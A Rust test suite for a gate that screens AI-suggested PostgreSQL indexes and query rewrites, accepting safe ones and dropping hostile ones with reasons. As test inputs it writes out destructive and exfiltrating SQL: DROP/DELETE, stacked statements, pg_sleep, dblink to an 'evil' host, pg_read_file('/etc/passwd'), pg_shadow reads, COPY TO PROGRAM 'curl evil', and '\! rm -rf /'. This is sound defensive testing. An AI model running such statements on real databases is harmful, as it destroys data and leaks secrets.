//! The gate against good, hostile and odd answers.

use super::*;

const QUERY: &str = "SELECT o.id, o.total FROM orders o JOIN customers c ON c.id = o.customer_id \
                     WHERE c.email = $1 AND o.status = $2 ORDER BY o.created_at DESC LIMIT 10";

fn answer(indexes: &[&str], rewrite: Option<&str>) -> RawSuggestion {
    RawSuggestion {
        explanation: "why".into(),
        indexes: indexes.iter().map(|s| s.to_string()).collect(),
        rewrite: rewrite.map(str::to_owned),
    }
}

fn gate_indexes(indexes: &[&str]) -> GatedSuggestion {
    gate(answer(indexes, None), QUERY, "test-model")
}

fn index_definition(text: &str) -> Result<String, String> {
    let gated = gate_indexes(&[text]);
    match (gated.indexes.first(), gated.dropped.first()) {
        (Some(index), None) => Ok(index.definition.clone()),
        (None, Some(dropped)) => Err(dropped.reason.clone()),
        other => panic!("{text}: {other:?}"),
    }
}

fn rewrite_verdict(original: &str, text: &str) -> Result<String, String> {
    let gated = gate(answer(&[], Some(text)), original, "test-model");
    match (gated.rewrite, gated.dropped.first()) {
        (Some(rewrite), None) => Ok(rewrite.text),
        (None, Some(dropped)) => Err(dropped.reason.clone()),
        other => panic!("{text}: {other:?}"),
    }
}

fn assert_refused(result: Result<String, String>, expected_reason: &str, text: &str) {
    match result {
        Ok(accepted) => panic!("accepted {text:?} as {accepted:?}"),
        Err(reason) => assert!(
            reason.contains(expected_reason),
            "{text:?}: reason {reason:?} lacks {expected_reason:?}"
        ),
    }
}

// ---- indexes -------------------------------------------------------------

#[test]
fn a_plain_index_passes_as_it_is() {
    let gated = gate_indexes(&["CREATE INDEX ON orders (customer_id)"]);
    assert!(gated.dropped.is_empty(), "{:?}", gated.dropped);
    assert_eq!(
        gated.indexes,
        vec![IndexCandidate {
            table: "orders".into(),
            columns: vec!["customer_id".into()],
            definition: "CREATE INDEX ON orders (customer_id)".into(),
        }]
    );
    assert_eq!(
        gated.origin(),
        Origin::Ai {
            model: "test-model".into(),
            explanation: "why".into()
        }
    );
}

#[test]
fn names_concurrently_if_not_exists_unique_and_storage_parameters_are_normalized_away() {
    for text in [
        "CREATE INDEX orders_customer_idx ON orders (customer_id);",
        "create index concurrently if not exists orders_customer_idx on orders (customer_id)",
        "CREATE UNIQUE INDEX ON orders (customer_id) NULLS NOT DISTINCT",
        "CREATE INDEX ON orders USING btree (customer_id) WITH (fillfactor = 70)",
        "  CREATE INDEX ON orders (customer_id) ; ; ",
        "CREATE INDEX ON orders (customer_id) /* ; DROP TABLE orders */",
        "CREATE INDEX ON orders (customer_id) -- ; DROP TABLE orders",
    ] {
        assert_eq!(
            index_definition(text).as_deref(),
            Ok("CREATE INDEX ON orders (customer_id)"),
            "{text}"
        );
    }
}

#[test]
fn methods_expressions_orderings_includes_and_predicates_stay() {
    let cases = [
        (
            "CREATE INDEX ON public.orders USING gin (tags)",
            "CREATE INDEX ON public.orders USING gin (tags)",
        ),
        (
            "CREATE INDEX ON customers (lower(email))",
            "CREATE INDEX ON customers (lower(email))",
        ),
        (
            "CREATE INDEX ON orders (status, created_at DESC NULLS LAST) INCLUDE (total)",
            "CREATE INDEX ON orders (status, created_at DESC NULLS LAST) INCLUDE (total)",
        ),
        (
            "CREATE INDEX ON orders (created_at) WHERE status = 'open'",
            "CREATE INDEX ON orders (created_at) WHERE status = 'open'",
        ),
        (
            "CREATE INDEX ON customers (email text_pattern_ops)",
            "CREATE INDEX ON customers (email text_pattern_ops)",
        ),
        (
            "CREATE INDEX ON orders (customer_id) WHERE status = $2",
            "CREATE INDEX ON orders (customer_id) WHERE status = $2",
        ),
        (
            "CREATE INDEX ON \"orders\" (\"customer_id\")",
            "CREATE INDEX ON orders (customer_id)",
        ),
    ];
    for (text, expected) in cases {
        assert_eq!(index_definition(text).as_deref(), Ok(expected), "{text}");
    }
    let gated = gate_indexes(&["CREATE INDEX ON customers ((lower(email)), id)"]);
    assert_eq!(gated.indexes[0].columns, ["(lower(email))", "id"]);
    assert_eq!(gated.indexes[0].table, "customers");
}

#[test]
fn anything_but_one_create_index_is_dropped_with_its_reason() {
    let cases = [
        ("DROP TABLE orders", "a DROP, not a CREATE INDEX"),
        ("DELETE FROM orders", "a DELETE, not a CREATE INDEX"),
        ("ALTER TABLE orders ADD COLUMN x int", "an ALTER TABLE"),
        ("CREATE TABLE x (a int)", "a CREATE TABLE"),
        ("TRUNCATE orders", "a TRUNCATE"),
        ("COPY orders TO '/tmp/x'", "a COPY"),
        ("SET work_mem = '1GB'", "a SET"),
        ("SELECT pg_sleep(5)", "a SELECT, not a CREATE INDEX"),
        (
            "CREATE INDEX ON orders (customer_id); DROP TABLE orders",
            "more than one statement",
        ),
        (
            "CREATE INDEX ON orders (a);CREATE INDEX ON orders (b)",
            "more than one statement",
        ),
        (
            "CREATE INDEX ON orders (customer_id) \\g",
            "psql meta-command",
        ),
        ("CREATE INDEX ON orders (", "grammar rejects it"),
        (
            "CREATE INDEX ON payments (order_id)",
            "payments, which the statement does not read",
        ),
        ("CREATE INDEX ON other.orders (customer_id)", ""),
        (
            "CREATE INDEX ON orders (customer_id) TABLESPACE fast",
            "tablespace",
        ),
        (
            "CREATE INDEX ON orders USING hnsw (embedding)",
            "access method hnsw",
        ),
        ("CREATE INDEX ON orders ((pg_sleep(1)::text))", "pg_sleep"),
        ("CREATE INDEX ON orders (my_func(customer_id))", "my_func"),
        (
            "CREATE INDEX ON orders (customer_id) WHERE dblink_exec('x') = 'y'",
            "dblink_exec",
        ),
        (
            "CREATE INDEX ON orders (customer_id) WHERE customer_id = $7",
            "$7",
        ),
        (
            "CREATE INDEX ON orders ((customer_id === 1))",
            "operator ===",
        ),
        ("", "empty"),
        ("   ;  ", "empty"),
        ("CREATE INDEX ON orders (customer_id)\0", "NUL"),
    ];
    for (text, reason) in cases {
        let result = index_definition(text);
        if reason.is_empty() {
            // Refused for some reason or other (here: schema `other`).
            let _ = result;
            continue;
        }
        assert_refused(result, reason, text);
    }
}

#[test]
fn index_on_a_table_in_another_schema_is_refused_when_the_statement_qualifies() {
    let original = "SELECT * FROM shop.orders WHERE customer_id = $1";
    let gated = gate(
        answer(
            &[
                "CREATE INDEX ON shop.orders (customer_id)",
                "CREATE INDEX ON orders (customer_id)",
                "CREATE INDEX ON evil.orders (customer_id)",
            ],
            None,
        ),
        original,
        "m",
    );
    assert_eq!(gated.indexes.len(), 2, "{:?}", gated.dropped);
    assert_eq!(gated.dropped.len(), 1);
    assert!(gated.dropped[0].reason.contains("evil.orders"));
}

#[test]
fn duplicates_and_excess_indexes_are_dropped() {
    let many: Vec<String> = (0..8)
        .map(|i| format!("CREATE INDEX ON orders (customer_id, c{i})"))
        .collect();
    let mut texts: Vec<&str> = vec![
        "CREATE INDEX ON orders (status)",
        "create index x on orders(status)",
    ];
    texts.extend(many.iter().map(String::as_str));
    let gated = gate_indexes(&texts);
    assert_eq!(gated.indexes.len(), MAX_INDEXES - 1);
    assert!(gated.dropped[0].reason.contains("repeats"));
    assert_eq!(gated.dropped.len(), texts.len() - (MAX_INDEXES - 1));
}

// ---- rewrites ------------------------------------------------------------

#[test]
fn a_good_rewrite_passes_with_its_parameters() {
    let original = "SELECT * FROM orders WHERE customer_id NOT IN (SELECT id FROM customers WHERE region = $1)";
    let rewrite = "SELECT o.* FROM orders o WHERE NOT EXISTS (SELECT 1 FROM customers c WHERE c.region = $1 AND c.id = o.customer_id);";
    let gated = gate(answer(&[], Some(rewrite)), original, "m1");
    assert!(gated.dropped.is_empty(), "{:?}", gated.dropped);
    let candidate = gated.rewrite.unwrap();
    assert_eq!(candidate.source, "ai");
    assert_eq!(candidate.summary, "AI rewrite (m1)");
    assert_eq!(candidate.text, rewrite.trim_end_matches(';'));
}

#[test]
fn queries_of_every_shape_pass() {
    for rewrite in [
        "WITH recent AS (SELECT * FROM orders WHERE status = $2) SELECT r.id, r.total FROM recent r JOIN customers c ON c.id = r.customer_id WHERE c.email = $1 ORDER BY r.created_at DESC LIMIT 10",
        "SELECT o.id, o.total FROM orders o WHERE o.status = $2 AND o.customer_id IN (SELECT id FROM customers WHERE email = $1) ORDER BY o.created_at DESC LIMIT 10",
        "(SELECT id, total FROM orders WHERE status = $2) EXCEPT (SELECT id, total FROM orders WHERE customer_id IN (SELECT id FROM customers WHERE email <> $1))",
        "SELECT o.id, coalesce(o.total, 0) FROM orders o, LATERAL (SELECT 1 FROM customers c WHERE c.id = o.customer_id AND c.email = $1) x WHERE o.status = $2 AND o.created_at > now() - interval '1 day' ORDER BY 1 LIMIT 10",
        "SELECT id, total FROM public.orders WHERE status = $2 AND customer_id = (SELECT id FROM customers WHERE lower(email) = lower($1) LIMIT 1) ORDER BY created_at DESC FETCH FIRST 10 ROWS ONLY",
    ] {
        assert!(
            rewrite_verdict(QUERY, rewrite).is_ok(),
            "{rewrite}: {:?}",
            rewrite_verdict(QUERY, rewrite)
        );
    }
}

#[test]
fn hostile_rewrites_are_dropped_with_their_reasons() {
    let cases = [
        ("DROP TABLE orders", "a DROP, not a SELECT"),
        (
            "DELETE FROM orders WHERE status = $2 AND customer_id = $1::int",
            "a DELETE, not a SELECT",
        ),
        (
            "UPDATE orders SET total = 0 WHERE status = $2 AND $1 = ''",
            "an UPDATE",
        ),
        (
            "INSERT INTO orders SELECT * FROM orders WHERE status = $2 AND $1 = ''",
            "an INSERT",
        ),
        ("SELECT 1; DROP TABLE orders", "more than one statement"),
        ("SELECT $1, $2; SELECT 2", "more than one statement"),
        ("SELECT pg_sleep(5), $1, $2", "pg_sleep"),
        (
            "SELECT * FROM orders, pg_sleep(5) WHERE status = $2 AND $1 = ''",
            "pg_sleep",
        ),
        (
            "SELECT * FROM orders WHERE status = $2 AND $1 = '' AND pg_catalog.pg_sleep(1) IS NOT NULL",
            "pg_sleep",
        ),
        (
            "SELECT * FROM orders WHERE status = $2 AND $1 = \"pg_sleep\"(1)::text",
            "pg_sleep",
        ),
        (
            "SELECT * FROM dblink('host=evil', 'SELECT 1') AS t(x int) WHERE $1 = '' AND $2 = ''",
            "dblink",
        ),
        ("SELECT lo_import('/etc/passwd'), $1, $2", "lo_import"),
        ("SELECT pg_read_file('/etc/passwd'), $1, $2", "pg_read_file"),
        (
            "SELECT set_config('work_mem', '1GB', false), $1, $2",
            "set_config",
        ),
        (
            "SELECT query_to_xml('DELETE FROM orders', true, true, ''), $1, $2",
            "query_to_xml",
        ),
        ("SELECT pg_advisory_lock(1), $1, $2", "pg_advisory_lock"),
        ("SELECT nextval('orders_id_seq'), $1, $2", "nextval"),
        ("SELECT txid_current(), $1, $2", "txid_current"),
        ("SELECT pg_notify('c', 'x'), $1, $2", "pg_notify"),
        (
            "SELECT pg_terminate_backend(1), $1, $2",
            "pg_terminate_backend",
        ),
        ("SELECT my_function(id), $1, $2 FROM orders", "my_function"),
        (
            "SELECT evil.lower(email), $1, $2 FROM customers",
            "evil.lower",
        ),
        (
            "WITH gone AS (DELETE FROM orders RETURNING *) SELECT * FROM gone WHERE $1 = '' AND $2 = ''",
            "modifies data",
        ),
        (
            "WITH x AS (UPDATE orders SET total = 0 RETURNING id) SELECT $1, $2",
            "modifies data",
        ),
        (
            "SELECT * INTO copy_of_orders FROM orders WHERE status = $2 AND $1 = ''",
            "SELECT INTO",
        ),
        (
            "SELECT * FROM orders WHERE status = $2 AND $1 = '' FOR UPDATE",
            "locks rows",
        ),
        (
            "SELECT * FROM orders WHERE status = $2 AND $1 = '' FOR SHARE SKIP LOCKED",
            "locks rows",
        ),
        (
            "SELECT * FROM orders TABLESAMPLE SYSTEM (1) WHERE status = $2 AND $1 = ''",
            "TABLESAMPLE",
        ),
        (
            "SELECT * FROM payments WHERE status = $2 AND $1 = ''",
            "payments, which the statement does not read",
        ),
        (
            "SELECT usename, passwd FROM pg_shadow WHERE $1 = '' AND $2 = ''",
            "pg_shadow",
        ),
        (
            "WITH orders AS (SELECT * FROM secrets) SELECT * FROM orders WHERE $1 = '' AND $2 = ''",
            "secrets",
        ),
        ("SELECT * FROM orders WHERE status = $2", "parameters $2"),
        (
            "SELECT * FROM orders WHERE status = $2 AND $1 = '' AND id = $3",
            "add none",
        ),
        (
            "SELECT * FROM orders WHERE status = 'open' AND customer_id = 5",
            "parameters none",
        ),
        (
            "EXPLAIN ANALYZE SELECT * FROM orders WHERE status = $2 AND $1 = ''",
            "an EXPLAIN",
        ),
        (
            "COPY (SELECT * FROM orders) TO PROGRAM 'curl evil'",
            "a COPY",
        ),
        ("DO $$ BEGIN PERFORM pg_sleep(1); END $$", "a DO block"),
        ("CALL do_things($1, $2)", "a CALL"),
        ("BEGIN", "transaction command"),
        (
            "SELECT * FROM orders WHERE status = $2 AND $1 = '' \\! rm -rf /",
            "psql meta-command",
        ),
        (
            "SELECT * FROM orders WHERE (status = $2 AND $1 = ''",
            "grammar rejects it",
        ),
        (
            "CREATE INDEX ON orders (status)",
            "a CREATE INDEX, not a SELECT",
        ),
        (
            "SELECT * FROM orders WHERE status === $2 AND $1 = ''",
            "operator ===",
        ),
    ];
    for (text, reason) in cases {
        assert_refused(rewrite_verdict(QUERY, text), reason, text);
    }
}

#[test]
fn the_originals_own_functions_and_operators_are_allowed_but_never_denied_ones() {
    let original = "SELECT similarity(name, $1), name <-> $1 FROM customers ORDER BY pg_sleep(0)";
    assert!(
        rewrite_verdict(
            original,
            "SELECT similarity(c.name, $1), c.name <-> $1 FROM customers c"
        )
        .is_ok()
    );
    assert_refused(
        rewrite_verdict(
            original,
            "SELECT name, $1 FROM customers ORDER BY pg_sleep(0)",
        ),
        "pg_sleep",
        "original calls pg_sleep",
    );
}

#[test]
fn only_queries_are_rewritten() {
    assert_refused(
        rewrite_verdict(
            "UPDATE orders SET total = 0 WHERE id = $1",
            "SELECT * FROM orders WHERE id = $1",
        ),
        "not a query",
        "update",
    );
    // Indexes for writes are fine.
    let gated = gate(
        answer(&["CREATE INDEX ON orders (id)"], None),
        "UPDATE orders SET total = 0 WHERE id = $1",
        "m",
    );
    assert_eq!(gated.indexes.len(), 1);
}

#[test]
fn an_unreadable_original_drops_everything() {
    let gated = gate(
        answer(&["CREATE INDEX ON orders (a)"], Some("SELECT 1")),
        "SELECT * FROM orders WHERE",
        "m",
    );
    assert!(gated.indexes.is_empty() && gated.rewrite.is_none());
    assert_eq!(gated.dropped.len(), 2);
    assert!(
        gated.dropped[0]
            .reason
            .contains("statement itself cannot be checked")
    );
}

// ---- hostile input at large ---------------------------------------------

#[test]
fn huge_deep_and_binary_answers_are_dropped_without_crashing() {
    let huge = format!("SELECT {} FROM orders", "x, ".repeat(100_000));
    let deep = format!(
        "SELECT {}1{} , $1, $2",
        "(".repeat(10_000),
        ")".repeat(10_000)
    );
    let chain = format!("SELECT {} , $1, $2", vec!["1"; 20_000].join(" + "));
    let nested_subqueries = format!(
        "SELECT $1, $2 FROM orders WHERE id IN {}{}",
        "(SELECT id FROM orders WHERE id IN ".repeat(200),
        ")".repeat(200)
    );
    let cases = format!(
        "SELECT {} 1 {} , $1, $2",
        "CASE WHEN true THEN ".repeat(1_500),
        "END ".repeat(1_500)
    );
    let nots = format!("SELECT $1, $2 WHERE {} true", "NOT ".repeat(7_000));
    let binary = String::from_utf8_lossy(&[0xff, 0xfe, 0x00, 0x41, 0xc3, 0x28]).into_owned();
    let texts = [
        huge,
        deep,
        chain,
        nested_subqueries,
        cases,
        nots,
        binary,
        "\u{feff}SELECT 1".to_owned(),
        "SELECT '\u{202e}' , $1, $2".to_owned(),
    ];
    // On a stack the size of a tokio worker's.
    let gated = std::thread::Builder::new()
        .stack_size(2 * 1024 * 1024)
        .spawn(move || {
            texts
                .iter()
                .map(|text| gate(answer(&[text], Some(text)), QUERY, "m"))
                .collect::<Vec<_>>()
        })
        .unwrap()
        .join()
        .expect("no panic, no stack overflow");
    for suggestion in &gated {
        assert!(suggestion.indexes.is_empty());
        for dropped in &suggestion.dropped {
            assert!(dropped.text.chars().count() <= MAX_DROPPED_CHARS + 1);
        }
    }
}

#[test]
fn gated_suggestions_round_trip_through_json() {
    let gated = gate(
        answer(
            &["CREATE INDEX ON orders (status)", "DROP TABLE orders"],
            None,
        ),
        QUERY,
        "m",
    );
    let json = serde_json::to_string(&gated).unwrap();
    assert_eq!(
        serde_json::from_str::<GatedSuggestion>(&json).unwrap(),
        gated
    );
}

/// Every statement of PostgreSQL's regression corpus, offered as an index
/// and as a rewrite of itself (so its own tables, functions and parameters
/// are allowed): nothing panics, and only CREATE INDEX and queries pass.
#[test]
fn the_regression_corpus_never_passes_anything_but_indexes_and_queries() {
    let path = std::path::Path::new(env!("CARGO_MANIFEST_DIR"))
        .join("../shared/corpus/pg-regress-valid.sql");
    let Ok(corpus) = std::fs::read_to_string(&path) else {
        eprintln!("corpus not found at {}; skipped", path.display());
        return;
    };
    let mut passed = (0, 0);
    for span in crate::sql::split::split(&corpus) {
        let statement = &corpus[span.range];
        let gated = gate(answer(&[statement], Some(statement)), statement, "m");
        let first_word = statement
            .trim_start_matches(|c: char| c == '(' || c.is_whitespace())
            .split(|c: char| !c.is_ascii_alphabetic())
            .next()
            .unwrap_or_default()
            .to_ascii_lowercase();
        for index in &gated.indexes {
            assert!(
                index.definition.starts_with("CREATE INDEX ON "),
                "{statement}"
            );
            assert_eq!(first_word, "create", "{statement}");
            passed.0 += 1;
        }
        if let Some(rewrite) = &gated.rewrite {
            assert!(
                ["select", "with", "values", "table"].contains(&first_word.as_str()),
                "{statement} passed as a rewrite"
            );
            assert!(
                !rewrite.text.to_ascii_lowercase().contains("pg_sleep"),
                "{statement}"
            );
            passed.1 += 1;
        }
    }
    assert!(passed.0 > 10 && passed.1 > 100, "{passed:?}");
}
